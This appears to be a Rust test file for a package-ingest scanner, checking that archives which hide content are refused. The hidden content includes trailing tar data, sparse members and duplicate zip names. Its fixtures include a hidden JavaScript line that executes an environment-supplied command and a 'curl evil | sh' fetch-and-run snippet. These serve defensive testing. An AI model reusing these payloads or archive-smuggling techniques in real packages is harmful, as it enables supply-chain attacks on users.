//! Strict archives and walks: nothing is ignored silently. Data after a tar's end-of-archive
//! marker, sparse members (old GNU and pax) and duplicate zip names are refused by name; a
//! directory walk reads regular files only and says what it skipped.

mod common;
use common::*;
use portcullis_ingest::{IngestError, Limits, load_archive_bytes, load_with_notices};

const PKG: &[u8] = b"{\"name\":\"acme-widget\",\"version\":\"1.0.0\",\"main\":\"index.js\"}";
const HIDDEN: &[u8] = b"require('child_process').exec(process.env.CMD);\n";

fn load(name: &str, bytes: &[u8]) -> Result<portcullis_core::Package, IngestError> {
    load_archive_bytes(name, bytes, &Limits::default()).map(|(p, _)| p)
}

#[test]
fn a_second_gzip_member_after_the_end_of_archive_is_refused_naming_what_it_holds() {
    let first = Tar::new()
        .file("package/package.json", PKG)
        .file("package/index.js", b"module.exports = 1;\n")
        .tgz();
    let second = Tar::new().file("package/hidden.js", HIDDEN).tgz();
    let mut bytes = first.clone();
    bytes.extend(&second);
    let err = load("acme-widget-1.0.0.tgz", &bytes).unwrap_err();
    assert!(matches!(err, IngestError::TrailingData { .. }), "{err:?}");
    let msg = err.to_string();
    for needle in [
        "acme-widget-1.0.0.tgz",
        "end-of-archive",
        "after entry `package/index.js`",
        "package/hidden.js",
    ] {
        assert!(msg.contains(needle), "`{needle}` missing from: {msg}");
    }
    // The first member alone is a fine package.
    assert!(load("acme-widget-1.0.0.tgz", &first).is_ok());
}

#[test]
fn bytes_after_the_end_of_an_uncompressed_tar_are_refused_but_zero_padding_is_not() {
    let mut tar = Tar::new().file("package/package.json", PKG).tar();
    let clean = tar.clone();
    let mut padded = clean.clone();
    padded.extend([0u8; 10240]);
    assert!(load("a.tar", &padded).is_ok());
    tar.extend(b"#!/bin/sh\ncurl evil | sh\n");
    let err = load("a.tar", &tar).unwrap_err();
    assert!(
        matches!(err, IngestError::TrailingData { offset, .. } if offset == clean.len() as u64),
        "{err:?}"
    );
}

#[test]
fn a_pax_sparse_member_is_refused_under_its_real_name() {
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_ustar();
    h.set_size(PKG.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, "package/package.json", PKG).unwrap();
    b.append_pax_extensions([
        ("GNU.sparse.major", &b"1"[..]),
        ("GNU.sparse.minor", b"0"),
        ("GNU.sparse.name", b"package/hidden.js"),
        ("GNU.sparse.realsize", b"49"),
    ])
    .unwrap();
    let mut payload = b"1\n0\n49\n".to_vec();
    payload.resize(512, 0);
    payload.extend_from_slice(HIDDEN);
    let mut h = tar::Header::new_ustar();
    h.set_size(payload.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, "package/GNUSparseFile.0/hidden.js", &payload[..])
        .unwrap();
    let err = load("sparse.tar", &b.into_inner().unwrap()).unwrap_err();
    assert!(matches!(err, IngestError::SpecialFile { .. }), "{err:?}");
    let msg = err.to_string();
    assert!(msg.contains("entry `package/hidden.js`"), "{msg}");
    assert!(msg.contains("sparse"), "{msg}");
    assert!(msg.contains("GNUSparseFile.0"), "{msg}");
}

/// An old-GNU (`S`) member after `package/package.json`; `numbytes` is what its map claims.
fn gnu_sparse(numbytes: u64) -> Vec<u8> {
    let mut out = Tar::new().file("package/package.json", PKG).tar();
    out.truncate(out.len() - 1024);
    let mut h = tar::Header::new_gnu();
    h.set_path("package/sparse.js").unwrap();
    h.set_mode(0o644);
    h.set_entry_type(tar::EntryType::GNUSparse);
    h.set_size(HIDDEN.len() as u64);
    {
        let gnu = h.as_gnu_mut().unwrap();
        let octal = |field: &mut [u8], v: u64| {
            let s = format!("{:0w$o}\0", v, w = field.len() - 1);
            field.copy_from_slice(s.as_bytes());
        };
        octal(&mut gnu.realsize, (1 << 19) + HIDDEN.len() as u64);
        octal(&mut gnu.sparse[0].offset, 1 << 19);
        octal(&mut gnu.sparse[0].numbytes, numbytes);
    }
    h.set_cksum();
    out.extend_from_slice(h.as_bytes());
    let mut block = HIDDEN.to_vec();
    block.resize(512, 0);
    out.extend_from_slice(&block);
    out.extend_from_slice(&[0; 1024]);
    out
}

#[test]
fn gnu_sparse_members_are_refused_at_their_own_entry() {
    let err = load("s.tar", &gnu_sparse(HIDDEN.len() as u64)).unwrap_err();
    assert!(matches!(err, IngestError::SpecialFile { .. }), "{err:?}");
    assert!(
        err.to_string().contains("entry `package/sparse.js`"),
        "{err}"
    );
    // A map tar itself rejects is named at the sparse member, not at package.json before it.
    let err = load("s.tar", &gnu_sparse(1 << 30)).unwrap_err();
    let msg = err.to_string();
    assert!(msg.contains("package/sparse.js"), "{msg}");
    assert!(!msg.contains("package.json"), "{msg}");
}

/// Stored zip entries written by hand: zip writers refuse to repeat a name.
fn zip_stored(files: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    let p16 = |v: &mut Vec<u8>, x: u16| v.extend_from_slice(&x.to_le_bytes());
    let p32 = |v: &mut Vec<u8>, x: u32| v.extend_from_slice(&x.to_le_bytes());
    for (name, data) in files {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        let offset = out.len() as u32;
        out.extend_from_slice(b"PK\x03\x04");
        for x in [20, 0, 0, 0, 0] {
            p16(&mut out, x);
        }
        p32(&mut out, crc.sum());
        p32(&mut out, data.len() as u32);
        p32(&mut out, data.len() as u32);
        p16(&mut out, name.len() as u16);
        p16(&mut out, 0);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        central.extend_from_slice(b"PK\x01\x02");
        for x in [0x0314, 20, 0, 0, 0, 0] {
            p16(&mut central, x);
        }
        p32(&mut central, crc.sum());
        p32(&mut central, data.len() as u32);
        p32(&mut central, data.len() as u32);
        p16(&mut central, name.len() as u16);
        for x in [0, 0, 0, 0] {
            p16(&mut central, x);
        }
        p32(&mut central, 0o100_644 << 16);
        p32(&mut central, offset);
        central.extend_from_slice(name.as_bytes());
    }
    let cd = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06");
    for x in [0, 0, files.len() as u16, files.len() as u16] {
        p16(&mut out, x);
    }
    p32(&mut out, central.len() as u32);
    p32(&mut out, cd);
    p16(&mut out, 0);
    out
}

#[test]
fn a_zip_repeating_a_name_is_refused_naming_it() {
    let bytes = zip_stored(&[
        ("package/package.json", PKG),
        ("package/index.js", b"module.exports = 1;\n"),
        ("package/index.js", HIDDEN),
    ]);
    let err = load("dup.zip", &bytes).unwrap_err();
    assert!(matches!(err, IngestError::Duplicate { .. }), "{err:?}");
    assert!(
        err.to_string()
            .contains("entry `package/index.js` appears more than once"),
        "{err}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn walks_skip_fifos_and_refuse_pseudo_file_systems_without_blocking() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("package.json"), PKG).unwrap();
    std::fs::create_dir(dir.path().join("lib")).unwrap();
    let fifo = dir.path().join("lib/pipe.js");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let (pkg, notices) = load_with_notices(dir.path(), &Limits::default()).unwrap();
    assert!(pkg.file("package.json").is_some());
    assert!(pkg.file("lib/pipe.js").is_none());
    assert!(
        notices
            .iter()
            .any(|n| n.path.as_deref() == Some("lib/pipe.js") && n.message.contains("skipped")),
        "{notices:?}"
    );
    for root in ["/proc/self", "/sys/kernel"] {
        if !std::path::Path::new(root).exists() {
            continue;
        }
        let err = load_with_notices(std::path::Path::new(root), &Limits::default()).unwrap_err();
        assert!(matches!(err, IngestError::Unsupported { .. }), "{err:?}");
        assert!(err.to_string().contains("pseudo file system"), "{err}");
    }
}

#[test]
fn oversized_files_of_a_walk_are_unanalysed_notices() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("package.json"), PKG).unwrap();
    std::fs::write(dir.path().join("big.js"), vec![b'x'; 2048]).unwrap();
    let limits = Limits {
        max_file_size: 1024,
        ..Limits::default()
    };
    let (_, notices) = load_with_notices(dir.path(), &limits).unwrap();
    let n = notices
        .iter()
        .find(|n| n.path.as_deref() == Some("big.js"))
        .expect("big.js skipped with a notice");
    assert_eq!(n.kind, portcullis_core::NoticeKind::Unanalysed);
    assert!(n.message.contains("max-file-size"), "{}", n.message);
}
